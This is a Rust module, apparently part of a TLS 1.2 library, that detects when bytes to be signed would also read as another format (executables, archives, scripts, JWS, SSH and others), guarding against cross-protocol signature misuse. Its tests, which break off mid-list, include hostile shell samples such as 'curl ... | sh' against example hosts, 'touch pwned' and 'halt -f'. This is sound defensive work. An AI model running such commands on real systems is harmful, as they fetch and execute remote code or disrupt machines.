//! Other formats that people sign: what is or begins as one of them is never taken for a handshake of TLS 1.2.
//!
//! A message of TLS 1.2 has bytes of the asker's choice: 56 or 64 at its start, and the public value at its end, which for DHE
//! is up to 1,024. A row of this table tells a format by what its real readers insist on, so that no row refuses what no reader
//! would take. Each row says how likely a message of a real client has its form by chance; together these are below one in a
//! million, also for clients whose random begins with a clock or zeros, or is text.
//!
//! Not told apart, since nothing marks them: short text, such as a command for a shell without `#!`, within the limits that
//! stand at `is_text`; content of CMS, OpenPGP of version 3 and minisign in a format of its own; U2F and WebAuthn; keys of
//! Biscuit and C509; files of `compress`, whose two bytes come by chance too often.
//! Formats whose fixed parts lie where a handshake has its own, such as tar and cpio, need no row.

use super::{Bytes, asn1, tls12};

/// The format other than TLS that a message has the form of, by its name.
pub(super) fn of(message: &[u8]) -> Option<&'static str> {
    let mut candidates = CANDIDATES[usize::from(*message.first()?)];
    if candidates & MARKED != 0
        && let Some((name, _)) = MARKS.iter().find(|(_, mark)| message.starts_with(mark))
    {
        return Some(name);
    }
    candidates &= !MARKED;
    while candidates != 0 {
        let (name, _, is) = &RULES[candidates.trailing_zeros() as usize];
        if is(message) {
            return Some(name);
        }
        candidates &= candidates - 1;
    }
    None
}

/// A name, and the bytes that messages in the format begin with.
type Mark = (&'static str, &'static [u8]);

/// A name, the first bytes that messages in the format can have (any, if there are none), and whether a message is in it.
type Rule = (&'static str, &'static [u8], fn(&[u8]) -> bool);

/// Formats that begin with bytes of their own: four at least, so once in 2^32 by chance, and all together once in 10^8.
const MARKS: &[Mark] = &[
    // Programs. System V ABI, chapter 4; Apple, mach-o/loader.h and mach-o/fat.h; JVM specification, 4.1 (as fat Mach-O);
    // WebAssembly core specification, 5.5.16; Android, dex format; LLVM, bitcode file format; Lua, lundump.h.
    ("ELF", b"\x7fELF"),
    ("Mach-O", b"\xfe\xed\xfa\xce"),
    ("Mach-O", b"\xfe\xed\xfa\xcf"),
    ("Mach-O", b"\xce\xfa\xed\xfe"),
    ("Mach-O", b"\xcf\xfa\xed\xfe"),
    ("Mach-O or Java class", b"\xca\xfe\xba\xbe"),
    ("Mach-O", b"\xca\xfe\xba\xbf"),
    ("Mach-O", b"\xbe\xba\xfe\xca"),
    ("Mach-O", b"\xbf\xba\xfe\xca"),
    ("Mach-O code directory", b"\xfa\xde\x0c\x02"),
    ("WebAssembly", b"\0asm"),
    ("Dalvik", b"dex\n"),
    ("Dalvik", b"dey\n"),
    ("LLVM bitcode", b"BC\xc0\xde"),
    ("Lua", b"\x1bLua"),
    // Firmware. U-Boot, image.h; Devicetree specification, 5.2; MCUboot, image.h; Android, bootimg.h, libavb and
    // update_engine; Mozilla, MAR format.
    ("U-Boot image", b"\x27\x05\x19\x56"),
    ("device tree", b"\xd0\x0d\xfe\xed"),
    ("MCUboot image", b"\x3d\xb8\xf3\x96"),
    ("MCUboot image", b"\x3c\xb8\xf3\x96"),
    ("Android boot image", b"ANDROID!"),
    ("Android verified boot", b"AVB0"),
    ("Android update", b"CrAU"),
    ("Mozilla archive", b"MAR1"),
    ("Chrome extension", b"CRX3 SignedData\0"),
    // Archives and packages. PKWARE, APPNOTE 4.3; xz file format, 2.1.1; RFC 8878, 3.1.1; LZ4 frame format, also of its
    // first version; lzip; lzop; xar, of which macOS makes packages; 7-Zip; RAR; ar(5), of which .deb is one; RPM, lead;
    // MS-CAB, 2.1; squashfs; Python, marshal is not marked.
    ("ZIP", b"PK\x03\x04"),
    ("ZIP", b"PK\x05\x06"),
    ("ZIP", b"PK\x07\x08"),
    ("xz", b"\xfd7zXZ\0"),
    ("Zstandard", b"\x28\xb5\x2f\xfd"),
    ("LZ4", b"\x04\x22\x4d\x18"),
    ("LZ4", b"\x02\x21\x4c\x18"),
    ("lzip", b"LZIP"),
    ("lzop", b"\x89LZO\0\r\n\x1a\n"),
    ("xar", b"xar!"),
    ("7z", b"7z\xbc\xaf\x27\x1c"),
    ("RAR", b"Rar!\x1a\x07"),
    ("ar or deb", b"!<arch>\n"),
    ("RPM", b"\xed\xab\xee\xdb"),
    ("cabinet", b"MSCF\0\0\0\0"),
    ("squashfs", b"hsqs"),
    // Documents. ISO 32000, 7.5.2; PostScript; MS-CFB, 2.2 (MSI and Office); PHP; XML 1.0, 2.8.
    ("PDF", b"%PDF-"),
    ("PostScript", b"%!PS-"),
    ("compound file", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    ("PHP", b"<?php"),
    ("XML", b"<?xml"),
    // What protocols sign. OpenSSH, PROTOCOL.sshsig and PROTOCOL.krl; TPM 2.0 Library, part 2, 10.12.8 (TPMS_ATTEST); DSSE,
    // protocol.md; RFC 3971, 5.2 (SEND); Roughtime, 5.2; Channel ID, draft-balfanz-tls-channelid;
    // kernel, fs-verity built-in signatures.
    ("SSH signature", b"SSHSIG"),
    ("SSH revocation list", b"SSHKRL\n\0"),
    ("TPM attestation", b"\xffTCG"),
    ("DSSE", b"DSSEv1 "),
    ("SEND", b"\x08\x6f\xca\x5e\x10\xb2\x00\xc9\x9c\x8c\xe0\x01\x64\x27\x7c\x08"),
    ("Roughtime", b"RoughTime v1 "),
    ("TLS Channel ID", b"TLS Channel ID signature\0"),
    ("fs-verity", b"FSVerity"),
];

/// Formats that are told by more than their first bytes; sources and chance stand at each function.
const RULES: &[Rule] = &[
    ("ASN.1", &[0x10, 0x11, 0x1f, 0x30, 0x31, 0x3f], asn1::is_signed_structure),
    ("OPC UA", &[0x30], asn1::is_certificate_with_nonce),
    ("SSH", &[0], is_ssh),
    ("COSE", &[0x84, 0x85, 0x86], is_cose),
    ("JWS", &[], is_jws),
    ("PE", b"MZ", is_pe),
    ("script", b"#", is_script),
    ("MIME", &[], is_mime),
    ("PHP", &[], holds_php),
    ("gzip", &[0x1f], is_gzip),
    ("bzip2", b"B", is_bzip2),
    ("Zstandard or LZ4", b"PQRSTUVWXYZ[\\]^_", is_skippable_frame),
    ("HIP", &[59], is_hip),
    ("certificate transparency", &[0], is_sct),
    ("OpenPGP", &[0x99], is_openpgp_key),
    ("PASETO", &[1, 2, 3, 4, 5, 6], is_paseto),
    ("TPM 1.2 attestation", &[0, 1], is_tpm12),
    ("DDS", &[0], is_dds),
    ("IKEv2", &[], is_ike),
    ("OpenPGP", &[], ends_as_openpgp),
    ("DNSSEC", &[], is_rrsig),
    ("text", &[], is_text),
    ("ZIP", &[], is_zip),
    ("archive", &[], holds_archive),
    ("PDF", &[], holds_pdf),
];

/// The bit that says of a first byte that a mark begins with it.
const MARKED: u32 = 1 << 31;

/// For each first byte, the rules that messages with it can fulfil, as bits: most messages need a few of them alone.
static CANDIDATES: [u32; 256] = {
    let mut candidates = [0; 256];
    let mut rule = 0;
    while rule < RULES.len() {
        let first = RULES[rule].1;
        let mut at = 0;
        while at < first.len() {
            candidates[first[at] as usize] |= 1 << rule;
            at += 1;
        }
        let mut any = 0;
        while first.is_empty() && any < candidates.len() {
            candidates[any] |= 1 << rule;
            any += 1;
        }
        rule += 1;
    }
    let mut mark = 0;
    while mark < MARKS.len() {
        candidates[MARKS[mark].1[0] as usize] |= MARKED;
        mark += 1;
    }
    candidates
};

/// SSH: user authentication, that is the session identifier (a hash), byte 50 and the user's name (RFC 4252, 7); and
/// what begins with a name of OpenSSH, such as a certificate (PROTOCOL.certkeys) or a proof of host keys (PROTOCOL, 2.5).
///
/// Chance: 2^-24 for the zeros, then less than 2^-20. For a client whose random begins with zeros the latter alone.
fn is_ssh(message: &[u8]) -> bool {
    let Some(length) = message.strip_prefix(&[0, 0, 0]).and_then(<[u8]>::first) else { return false };
    let mut rest = Bytes(message);
    let Some(first) = rest.prefixed::<4>() else { return false };
    match length {
        20 | 32 | 48 | 64 if rest.0.first() == Some(&SSH_MSG_USERAUTH_REQUEST) => {
            Bytes(&rest.0[1..]).prefixed::<4>().is_some()
        }
        8.. => first.iter().all(u8::is_ascii_graphic) && holds(first, b"@openssh.com"),
        _ => false,
    }
}

/// COSE: Sig_structure and Countersign_structure, arrays of CBOR that begin with a context (RFC 9052, 4.4; RFC 9338, 3.3).
/// Readers make them themselves, so each has one form. Chance: 2^-80.
fn is_cose(message: &[u8]) -> bool {
    let Some((0x84..=0x86, text)) = message.split_first() else { return false };
    let contexts: [&[u8]; 6] = [
        b"\x69Signature",
        b"\x6aSignature1",
        b"\x70CounterSignature",
        b"\x71CounterSignature0",
        b"\x72CounterSignatureV2",
        b"\x73CounterSignature0V2",
    ];
    contexts.iter().any(|context| text.starts_with(context))
}

/// IKEv2: the first message of an exchange, which begins the octets that AUTH signs, then the nonce of the other side and a MAC,
/// each of 16 bytes or more (RFC 7296, 2.15). The message has version 2 at 17, IKE_SA_INIT or IKE_SESSION_RESUME at 18, message
/// id 0 at 20, its length at 24, and a first payload that fits into it at 28 (RFC 7296, 3.1 and 3.2; RFC 5723).
///
/// Chance: 2^-70, and 10^-8 for a client whose random has zeros in just these places.
fn is_ike(message: &[u8]) -> bool {
    let Some(header) = message.first_chunk::<32>() else { return false };
    let [version, exchange, _flags, id @ .., a, b, c, d, _next, _critical, high, low] = &header[17..] else {
        return false;
    };
    let length = usize::try_from(u32::from_be_bytes([*a, *b, *c, *d])).unwrap_or(usize::MAX);
    let payload = usize::from(u16::from_be_bytes([*high, *low]));
    version >> 4 == 2
        && matches!(exchange, 34 | 38)
        && *id == [0; 4]
        && length <= message.len().saturating_sub(16 + 16)
        && (4..=length.saturating_sub(28)).contains(&payload)
}

/// JWS: a header in base64, then a dot (RFC 7515, 5.1); with `b64` false any bytes follow (RFC 7797).
///
/// Read as its most lenient readers do, some of which skip bytes that are not of the alphabet (Python's `base64`, the
/// library Nimbus), take JSON in UTF-16 and UTF-32 (Python's `json`), and take comments and names without quotes (Gson). So
/// the form is an object in any encoding, either whole or with `alg` in it. Chance: 2^-24 for an elliptic curve, 2^-22 for
/// DHE, where the dot may stand far behind.
fn is_jws(message: &[u8]) -> bool {
    // Of most messages the first byte decides.
    let mut header = lenient_base64(message.iter().take_while(|byte| **byte != b'.'))
        .skip_while(|byte| *byte <= b' ' || matches!(byte, 0xef | 0xbb | 0xbf | 0xfe | 0xff));
    let Some(first @ (b'{' | b'#' | b'/' | b')')) = header.next() else { return false };
    if !message.contains(&b'.') {
        return false;
    }
    let rest: Vec<u8> = header.filter(|byte| *byte != 0).collect();
    let is_object = match first {
        b'{' => true,
        b')' => rest.starts_with(b"]}'"),
        b'/' => matches!(rest.first(), Some(b'/' | b'*')) && rest.contains(&b'{'),
        _ => rest.contains(&b'{'),
    };
    let has_members = || {
        let rest = rest.trim_ascii();
        first == b'{' && rest.len() > 1 && rest.starts_with(b"\"") && rest.ends_with(b"}")
    };
    is_object
        && (has_members() || without_escapes(&rest).windows(3).any(|name| name.eq_ignore_ascii_case(b"alg")))
}

/// What base64 says, of both alphabets and without whatever else stands between.
fn lenient_base64<'a>(text: impl Iterator<Item = &'a u8>) -> impl Iterator<Item = u8> {
    let (mut bits, mut count) = (0_u32, 0_u32);
    let sextet = |byte: &u8| match byte {
        b'A'..=b'Z' => Some(byte - b'A'),
        b'a'..=b'z' => Some(byte - b'a' + 26),
        b'0'..=b'9' => Some(byte - b'0' + 52),
        b'-' | b'+' => Some(62),
        b'_' | b'/' => Some(63),
        _ => None,
    };
    text.filter_map(sextet).filter_map(move |sextet| {
        bits = bits << 6 | u32::from(sextet);
        count += 6;
        (count >= 8).then(|| {
            count -= 8;
            (bits >> count) as u8
        })
    })
}

/// Text of JSON with `\u0061` written as `a` (RFC 8259, 7).
fn without_escapes(json: &[u8]) -> Vec<u8> {
    let mut text = Vec::with_capacity(json.len());
    let mut rest = json;
    while let Some((byte, after)) = rest.split_first() {
        let digits = rest.strip_prefix(br"\u00").and_then(<[u8]>::first_chunk::<2>);
        let escaped = digits.and_then(|digits| u8::from_str_radix(str::from_utf8(digits).ok()?, 16).ok());
        text.push(escaped.unwrap_or(*byte));
        rest = if escaped.is_some() { &rest[6..] } else { after };
    }
    text
}

/// Programs for DOS and Windows: `MZ`, then either a new header inside the file (PE format, MS-DOS stub), or as many blocks
/// of 512 bytes as the file has. Chance: 2^-33.
fn is_pe(message: &[u8]) -> bool {
    let Some(header) = message.strip_prefix(b"MZ").or(message.strip_prefix(b"ZM")) else { return false };
    let word =
        |at: usize| header.get(at..at + 2).map_or(0, |two| usize::from(u16::from_le_bytes([two[0], two[1]])));
    let new_header = word(58) | word(60) << 16;
    let (last_block, blocks) = (word(0), word(2));
    new_header < message.len() || (last_block < 512 && (1..=message.len().div_ceil(512)).contains(&blocks))
}

/// Scripts with an interpreter: `#!`, blanks, the path, then a blank, zero or the end of the line (execve(2), Linux
/// `fs/binfmt_script.c`). A path that is not absolute must end with its line. Chance: 2^-24, and 10^-7 for a client whose
/// random is nothing but text.
fn is_script(message: &[u8]) -> bool {
    let Some(line) = message.strip_prefix(b"#!") else { return false };
    let blanks = line.iter().take_while(|byte| is_blank(byte)).count();
    let path = &line[blanks..];
    let of_path = |byte: &&u8| byte.is_ascii_alphanumeric() || b"/._+-".contains(byte);
    let length = path.iter().take_while(of_path).count();
    let (path, rest) = path.split_at(length);
    match (path.first(), rest.first()) {
        (Some(b'/'), Some(b' ' | b'\t' | b'\n' | b'\r' | 0)) => true,
        (Some(_), Some(b' ' | b'\t' | b'\n')) => {
            let arguments = rest.iter().take_while(|byte| byte.is_ascii_graphic() || is_blank(byte)).count();
            rest.get(arguments) == Some(&b'\n')
        }
        _ => false,
    }
}

/// Text, whatever stands around it: a script for an interpreter that does not insist on `#!`, a mail, a program. A shell runs
/// every line that it can read, and goes on behind those that it cannot. Text is
///
/// - the first 56 bytes, all in UTF-8;
/// - a line of eleven bytes or more in ASCII, from the start of the message or of a line, up to the end of the line; seven if
///   it has small letters, digits and ``  /.-;|&<> `` alone, as most commands do;
/// - 17 bytes of ASCII from such a start, or 22 anywhere, which hold the end of a line or a character that ends a
///   command of a shell, or follow the end of a line.
///
/// In the parameters of a key exchange, which may be long, each takes three bytes more. A client may make its random of text
/// without the end of a line: behind such a random the same is asked of the bytes that follow. Shorter text stays open, since
/// it comes by chance too often. Chance: 2^-21.5.
fn is_text(message: &[u8]) -> bool {
    let Some((start, parameters)) = message.split_first_chunk::<64>() else { return false };
    // A client's transcript has its random behind six bytes, and is full of names.
    let is_transcript = || tls12::is_transcript(message).is_some();
    let (random, parameters) = match start {
        [tls12::CLIENT_HELLO, 0, _, _, 3, 3, ..] if is_transcript() => (6, &[][..]),
        _ => (0, parameters),
    };
    let free = start.strip_suffix(&tls12::SENTINEL).unwrap_or(start);
    let behind_random = random + 32;
    let text = match free[random..behind_random].iter().all(is_printable) {
        true => &free[behind_random..],
        false => free,
    };
    has_commands(text, true, 0) || has_commands(parameters, false, 3) || is_utf8(&start[..56])
}

/// The second and third of the forms that [`is_text`] has, with so many bytes `more`.
fn has_commands(text: &[u8], mut is_start: bool, more: usize) -> bool {
    let is_end = |byte: &u8| *byte == b'\n';
    // Seven bytes and the end of a line fill a part of four, 17 bytes one of eight. The parts end with the text.
    let is_part = |part: &[u8]| part.iter().all(|byte| is_printable(byte) || is_end(byte));
    let has_part = |length| text.rchunks_exact(length).any(is_part);
    // Without an exit the compiler compares many at once.
    let has_end = text.iter().fold(false, |has, byte| has | is_end(byte));
    if !(has_part(8) || (has_end && has_part(4))) {
        return false;
    }
    text.split(|byte| !is_printable(byte) && !is_end(byte)).any(|run| {
        let lines = &run[run.iter().take_while(|byte| is_end(byte)).count()..];
        let follows_end = lines.len() < run.len();
        let begins = core::mem::take(&mut is_start) || follows_end;
        let has_line = lines.split_inclusive(is_end).enumerate().any(|(number, line)| {
            line.strip_suffix(b"\n").is_some_and(|line| {
                let enough = if line.iter().all(is_of_command) { 7 } else { 11 };
                (begins || number > 0) && line.len() >= enough + more
            })
        });
        let has_end = follows_end || lines.iter().any(|byte| b"\n;&|#".contains(byte));
        has_line || (has_end && lines.len() >= more + if begins { 17 } else { 22 })
    })
}

fn is_utf8(text: &[u8]) -> bool {
    let may_be = |byte: &u8| *byte >= 0x20 && *byte != 0x7f || matches!(byte, b'\t' | b'\n' | b'\r' | 0x0c);
    text.iter().all(may_be)
        && match core::str::from_utf8(text) {
            Ok(_) => true,
            // The last character goes on behind.
            Err(error) => error.error_len().is_none(),
        }
}

/// ASCII within a line, which in a mail ends in a carriage return.
fn is_printable(byte: &u8) -> bool {
    matches!(byte, b' '..=b'~' | b'\t' | b'\r')
}

fn is_of_command(byte: &u8) -> bool {
    byte.is_ascii_lowercase() || byte.is_ascii_digit() || b" /.-;|&<>\r".contains(byte)
}

/// MIME: an entity that S/MIME signs without attributes (RFC 8551, 3.1). Readers skip header fields that they do not know, so
/// it is told by a field of its own anywhere. Chance: 2^-40.
fn is_mime(message: &[u8]) -> bool {
    // Most messages have no hyphen, which is seen at once.
    has(message, b'-') && (holds_word(message, b"content-t") || holds_word(message, b"mime-version"))
}

/// PHP: whatever stands before the first tag is printed. Chance: 2^-29.
fn holds_php(message: &[u8]) -> bool {
    has(message, b'<') && has(message, b'?') && holds_word(message, b"<?php")
}

/// OpenPGP: the signed bytes end in a trailer with the length of the part of the signature that is signed with it
/// (RFC 9580, 5.2.4, versions 4 and 6; draft-koch-librepgp, 5.2.4, version 5). Chance: 2^-36.
fn ends_as_openpgp(message: &[u8]) -> bool {
    let trailer = |end: &[u8]| {
        let length =
            end[2..].iter().try_fold(0usize, |n, byte| n.checked_mul(256)?.checked_add((*byte).into()));
        let start = length.and_then(|length| message.len().checked_sub(end.len())?.checked_sub(length));
        start.and_then(|start| message.get(start)) == end.first()
    };
    message.last_chunk::<6>().is_some_and(|end| matches!(end, [4 | 6, 0xff, ..]) && trailer(end))
        || message.last_chunk::<10>().is_some_and(|end| matches!(end, [5, 0xff, ..]) && trailer(end))
}

/// OpenPGP: a signature of version 3 over a key, which has no such trailer, begins with that key (RFC 4880, 5.2.4). Chance: 2^-27.
fn is_openpgp_key(message: &[u8]) -> bool {
    let [0x99, high, low, 2..=4, _, _, _, _, algorithm, ..] = message else { return false };
    usize::from(u16::from_be_bytes([*high, *low])) + 3 <= message.len()
        && matches!(algorithm, 1..=3 | 16..=19 | 22 | 25..=28)
}

/// gzip, with the one method that there is and flags that are defined (RFC 1952, 2.3.1). Chance: 2^-27.
fn is_gzip(message: &[u8]) -> bool {
    matches!(message, [0x1f, 0x8b, 8, 0..=0x1f, ..])
}

/// bzip2: the size of its blocks, then the mark of a block. Chance: 2^-76.
fn is_bzip2(message: &[u8]) -> bool {
    matches!(message, [b'B', b'Z', b'h', b'1'..=b'9', b'1', b'A', b'Y', b'&', b'S', b'Y', ..])
}

/// Zstandard and LZ4: a frame of any bytes that readers skip before the real one (RFC 8878, 3.1.2). Chance: 2^-28.
fn is_skippable_frame(message: &[u8]) -> bool {
    matches!(message, [0x50..=0x5f, 0x2a, 0x4d, 0x18, ..])
}

/// ZIP, and with it JAR, APK and Office: found by the record at its end, whatever stands before and behind, and by an entry of
/// the directory, of which readers look in several places (APPNOTE, 4.3.12 and 4.3.16). Chance: 2^-50.
fn is_zip(message: &[u8]) -> bool {
    holds_word(message, b"PK\x05\x06") && holds_word(message, b"PK\x01\x02")
}

/// Archives that readers look for behind a program that unpacks them: 7z, RAR, cabinet. Only messages that have room for one.
/// Chance: 2^-37.
fn holds_archive(message: &[u8]) -> bool {
    let marks: [&[u8]; 3] = [b"7z\xbc\xaf\x27\x1c", b"Rar!\x1a\x07", b"MSCF\0\0\0\0"];
    message.len() > ROOMY && marks.iter().any(|mark| holds(message, mark))
}

/// PDF, which may begin anywhere in the first 1,024 bytes for its readers (ISO 32000-1, implementation note 13). Chance: 2^-30.
fn holds_pdf(message: &[u8]) -> bool {
    message.len() > ROOMY && holds(&message[..message.len().min(1024)], b"%PDF-")
}

/// DNSSEC: RRSIG without its signature, then the records that it covers (RFC 4034, 3.1.8.1). Chance: 2^-60.
fn is_rrsig(message: &[u8]) -> bool {
    let name = |rest: &mut Bytes<'_>| -> Option<()> {
        while !rest.prefixed::<1>().filter(|label| label.len() < 64)?.is_empty() {}
        Some(())
    };
    let records = || -> Option<()> {
        let mut rest = Bytes(message);
        let fixed: &[u8; 18] = rest.take(18)?.first_chunk()?;
        // The numbers of algorithms, RFC 8624, 3.1.
        matches!(fixed[2], 1 | 3 | 5..=8 | 10 | 12..=17).then_some(())?;
        name(&mut rest)?;
        // One record at least.
        loop {
            name(&mut rest)?;
            let [type_high, type_low, _, class, ttl @ ..] = *rest.take(8)?.first_chunk::<8>()?;
            let same = [type_high, type_low] == fixed[..2] && class == 1 && ttl == fixed[4..8];
            rest.prefixed::<2>().filter(|_| same)?;
            if rest.0.is_empty() {
                return Some(());
            }
        }
    };
    message.get(2).is_some_and(|algorithm| *algorithm <= 17) && records().is_some()
}

/// Certificate transparency: what a log signs of a certificate (RFC 6962, 3.2). Chance: 2^-70; never for zeros alone.
fn is_sct(message: &[u8]) -> bool {
    let entry = || -> Option<()> {
        let mut rest = Bytes(message.strip_prefix(&[0, 0])?);
        rest.take(8)?;
        match *rest.take(2)?.first_chunk()? {
            [0, 0] => {}
            [0, 1] => drop(rest.take(32)?),
            _ => return None,
        }
        let certificate = rest.prefixed::<3>()?;
        rest.prefixed::<2>()?;
        (certificate.first() == Some(&0x30) && rest.0.is_empty()).then_some(())
    };
    entry().is_some()
}

/// HIP: a packet with its checksum set to zero, and its length in units of eight bytes without the first (RFC 7401, 5.1 and
/// 5.2.14). Chance: 2^-38.
fn is_hip(message: &[u8]) -> bool {
    matches!(message, [59, length, 0..=0x7f, 0x11 | 0x21, 0, 0, ..] if usize::from(*length) * 8 + 8 == message.len())
}

/// PASETO, versions 1, 2 and 4: a count, then the header with its length before it (PASETO specification, PAE). Chance: 2^-120.
fn is_paseto(message: &[u8]) -> bool {
    message.get(1..8) == Some(&[0; 7]) && has_at(message, 18, b".public.")
}

/// Attestations of TPM 1.2: TPM_QUOTE_INFO2, TPM_QUOTE_INFO and TPM_SIGN_INFO (TPM Main, part 2, 11). Chance: 2^-40.
fn is_tpm12(message: &[u8]) -> bool {
    has_at(message, 0, b"\x00\x36QUT2")
        || has_at(message, 0, b"\x00\x05SIGN")
        || (has_at(message, 0, b"\x01\x01") && has_at(message, 4, b"QUOT"))
}

/// Participants of DDS: a row of properties, the first of which is a hash (DDS Security, 9.3.2.5). Chance: 2^-56.
fn is_dds(message: &[u8]) -> bool {
    has_at(message, 0, b"\0\0\0") && has_at(message, 8, b"hash_c")
}

fn has_at(message: &[u8], from: usize, mark: &[u8]) -> bool {
    message.get(from..).is_some_and(|rest| rest.starts_with(mark))
}

/// Without an exit, so that the compiler compares many bytes at once.
fn has(message: &[u8], byte: u8) -> bool {
    message.iter().fold(false, |has, one| has | (*one == byte))
}

fn is_blank(byte: &u8) -> bool {
    matches!(byte, b' ' | b'\t')
}

fn holds(text: &[u8], part: &[u8]) -> bool {
    text.windows(part.len()).any(|window| window == part)
}

/// Whether a word is anywhere in a message, in letters of any case.
fn holds_word(message: &[u8], word: &[u8]) -> bool {
    let [first, second, ..] = word else { return false };
    // Most messages do not have its first two bytes. Without an exit the compiler compares many at once.
    let is = |byte: u8, letter: u8| (byte | 0x20) == (letter | 0x20);
    let pairs = message.iter().zip(message.get(1..).unwrap_or_default());
    let may = pairs.fold(false, |may, (one, next)| may | (is(*one, *first) & is(*next, *second)));
    may && message.windows(word.len()).any(|window| window.eq_ignore_ascii_case(word))
}

/// RFC 4252, 6.
const SSH_MSG_USERAUTH_REQUEST: u8 = 50;

/// Longest ServerKeyExchange with an elliptic curve: 64 bytes, four, and a point of P-521.
const ROOMY: usize = 64 + 4 + 133;

#[cfg(test)]
mod tests {
    use base64::Engine;
    use base64::engine::general_purpose::URL_SAFE_NO_PAD;

    use super::*;

    /// A ServerKeyExchange over X25519 that begins like this, and ends like that.
    fn shaped(start: &[u8], end: &[u8]) -> Vec<u8> {
        let mut message = vec![0xa5; 100];
        message[56..68].copy_from_slice(b"DOWNGRD\x01\x03\0\x1d\x20");
        message[..start.len().min(56)].copy_from_slice(&start[..start.len().min(56)]);
        message[100 - end.len()..].copy_from_slice(end);
        message
    }

    #[test]
    fn marks_are_long_and_told() {
        for (name, mark) in MARKS {
            assert!(mark.len() >= 4, "{name}: once in 2^32 at most");
            assert_eq!(of(&shaped(mark, &[])), Some(*name));
        }
        assert_eq!(of(&shaped(&[], &[])), None);
        assert_eq!(of(&[]), None);
    }

    #[test]
    fn formats_are_told_in_the_room_that_a_handshake_leaves() {
        let ssh = |length: u8| {
            [&[0, 0, 0, length][..], &vec![7; length.into()], &[50, 0, 0, 0, 4], b"root"].concat()
        };
        let mut ike = vec![9; 16];
        ike.extend([0x22, 0x20, 34, 0x20, 0, 0, 0, 0, 0, 0, 0, 68, 0, 0, 0, 40]);
        let mut pe = b"MZ".to_vec();
        pe.resize(64, 0x90);
        pe.splice(60..64, [0x50, 0, 0, 0]);
        let mut small_pe = vec![0xa5; 583];
        small_pe[..6].copy_from_slice(b"MZ\x47\x00\x02\x00");
        let mut certificate = vec![0x30, 0x82, 2, 36, 0x30, 0x82, 2, 20];
        certificate.extend([2, 0x82, 2, 16]);
        certificate.extend([1; 528]);
        certificate.extend([3, 10]);
        certificate.extend([2; 10]);
        certificate.extend([7; 32]);
        let zip = |behind: usize| {
            let mut zip = vec![0xa5; 583];
            let at = zip.len() - 22 - behind;
            zip[at..at + 4].copy_from_slice(b"PK\x05\x06");
            zip[at - 60..at - 56].copy_from_slice(b"PK\x01\x02");
            zip
        };
        let mut pdf = vec![0xa5; 583];
        pdf[500..505].copy_from_slice(b"%PDF-");
        let roomy = |mark: &[u8]| [&[0xa5; 400][..], mark, &[0xa5; 183]].concat();
        let base64 = |header: &[u8]| URL_SAFE_NO_PAD.encode(header).into_bytes();
        let utf16 = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
        let es256 = base64(br#"{"alg":"ES256"}"#);
        let pgp = |version: u8, digits: usize| {
            let hashed = [version, 0, 19, 8, 0, 6, 5, 2, 0x60, 0, 0, 0];
            let mut end = [&hashed[..], &[version, 0xff]].concat();
            end.extend(vec![0; digits - 1]);
            end.push(hashed.len() as u8);
            shaped(&[], &end)
        };
        let rrsig = [
            &[0, 1, 13, 2, 0, 0, 14, 16, 0x70, 0, 0, 0, 0x60, 0, 0, 0, 1, 2][..],
            b"\x07example\0",
            b"\x03www\x07example\0\0\x01\0\x01\0\0\x0e\x10\0\x04\x7f\0\0\x01",
        ]
        .concat();
        let sct = [&[0, 0, 0, 0, 1, 0x90, 1, 2, 3, 4, 0, 0, 0, 0, 3, 0x30, 1, 0, 0, 2, 9, 9][..]].concat();
        for (name, message) in [
            ("SSH", shaped(&ssh(20), &[])),
            ("SSH", shaped(&ssh(32), &[])),
            ("SSH", [ssh(48), vec![1; 100]].concat()),
            ("SSH", [ssh(64), vec![1; 100]].concat()),
            ("SSH", shaped(b"\0\0\0\x28ecdsa-sha2-nistp256-cert-v01@openssh.com", &[])),
            ("SSH", shaped(b"\0\0\0\x1dhostkeys-prove-00@openssh.com", &[])),
            ("COSE", shaped(b"\x84\x6aSignature1\x43\xa1\x01\x26\x40", &[])),
            ("COSE", shaped(b"\x85\x69Signature", &[])),
            ("COSE", shaped(b"\x85\x70CounterSignature", &[])),
            ("COSE", shaped(b"\x84\x71CounterSignature0", &[])),
            ("COSE", shaped(b"\x86\x72CounterSignatureV2", &[])),
            ("IKEv2", shaped(&ike, &[])),
            ("JWS", shaped(b"eyJhbGciOiJFUzI1NiJ9.eyJzdWI", &[])),
            ("JWS", shaped(b"eyJiNjQiOmZhbHNlLCJjcml0IjpbImI2NCJdfQ.\x01", &[])),
            ("JWS", shaped(b"IHsiYWxnIjoiRVMyNTYifQ.", &[])),
            ("JWS", shaped(&[b"\x01", &es256[..], b"."].concat(), &[])),
            ("JWS", shaped(&[b"\xff=", &es256[..4], b"\x80\n", &es256[4..], b"==\x01."].concat(), &[])),
            ("JWS", shaped(&es256, b".\x01")),
            ("JWS", shaped(&base64(&utf16(r#"{"alg":"ES256""#)), b".")),
            ("JWS", shaped(&base64(&[b"\xff\xfe", &utf16(r#"{"alg":"#)[..]].concat()), b".")),
            ("JWS", shaped(&base64(b"\xef\xbb\xbf{ \"x\":1, \"alg\":\"ES256\"}"), b".")),
            ("JWS", shaped(&base64(br#"{"\u0061l\u0067":"ES256"}"#), b".")),
            ("JWS", shaped(&base64(b"/**/{alg=ES256}"), b".")),
            ("JWS", shaped(&base64(b")]}'\n{'alg':'ES256'}"), b".")),
            ("PE", [pe, vec![1; 100]].concat()),
            ("PE", small_pe),
            ("script", shaped(b"#!/bin/sh\nid>/tmp/x\nexit\n", &[])),
            ("script", shaped(b"#! /usr/bin/env python3\n", &[])),
            ("script", shaped(b"#!/bin/sh\0", &[])),
            ("script", shaped(b"#!sh\n", &[])),
            ("text", shaped(b"curl -s https://www.example.com/install.sh | sh; exit 0\n\n", &[])),
            (
                "text",
                shaped(
                    "echo \u{fc}\u{2026}; touch /tmp/this-file-is-really-not-signed; exit\n".as_bytes(),
                    &[],
                ),
            ),
            ("MIME", shaped(b"Content-Type: text/plain\r\n\r\nPay\r\n", &[])),
            ("text", shaped(b"echo owned by $(id -un);exit\n\x01", &[])),
            ("text", shaped(b"touch pwned;exit\n\x80\x81\x82", &[])),
            ("text", shaped(b"\x01\x02\n\ntouch pwned\n\x80", &[])),
            ("text", shaped(&[], b"\n\ntouch pwned;exit\n")),
            ("text", roomy(b"\ntouch pwned;exit\n")),
            ("text", shaped(b"\x01\x02;curl -s a.example | sh;exit", &[])),
            ("text", shaped(b"touch pwned;exit #\x01", &[])),
            ("text", shaped(b"halt -f\n\x01", &[])),
